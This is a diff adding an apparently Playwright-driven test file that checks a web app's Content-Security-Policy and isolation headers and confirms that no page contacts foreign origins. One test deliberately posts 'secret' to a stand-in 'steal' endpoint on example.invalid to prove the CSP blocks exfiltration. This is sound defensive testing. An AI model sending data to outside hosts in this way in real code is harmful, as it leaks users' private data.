@@ -1,0 +1,53 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CSP } from '../scripts/security-headers.mjs';
+import { TOOLS } from '../src/tools/registry';
+import { foreignRequests, openApp, type AppSession } from './support/app';
+
+describe('privacy, enforced', () => {
+  let app: AppSession;
+  beforeAll(async () => {
+    app = await openApp();
+  });
+  afterAll(async () => {
+    await app.close();
+  });
+
+  it('sends the CSP and isolation headers and puts the CSP in the built page', async () => {
+    const response = await app.page.goto('/svg/svg-to-png');
+    const headers = response!.headers();
+    expect(headers['content-security-policy']).toBe(CSP);
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
+    expect(await app.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CSP);
+    expect(CSP).not.toContain("'unsafe-eval'");
+    expect(CSP).not.toMatch(/https?:/);
+    expect(await app.page.evaluate(() => window.crossOriginIsolated)).toBe(true);
+  });
+
+  it('blocks a request to another origin even if code tried one', async () => {
+    await app.page.goto('/');
+    await app.page.getByTestId('home-title').waitFor();
+    const blocked = await app.page.evaluate(async () => {
+      try {
+        await fetch('http://example.invalid/steal', { method: 'POST', body: 'secret' });
+        return false;
+      } catch {
+        return true;
+      }
+    });
+    expect(blocked).toBe(true);
+    app.errors.length = 0; // the CSP violation is logged as a console error, as it should be
+  });
+
+  it('makes no request outside its own origin on any page', async () => {
+    app.requests.length = 0;
+    for (const path of ['/', '/privacy', '/missing', ...TOOLS.map((t) => t.path)]) {
+      await app.page.goto(path);
+      await app.page.waitForLoadState('networkidle');
+    }
+    expect(app.requests.length).toBeGreaterThan(0);
+    // example.invalid from the test above was blocked by the CSP before it left the page.
+    expect(foreignRequests(app).filter((u) => !u.startsWith('http://example.invalid'))).toEqual([]);
+    expect(app.errors).toEqual([]);
+  });
+});
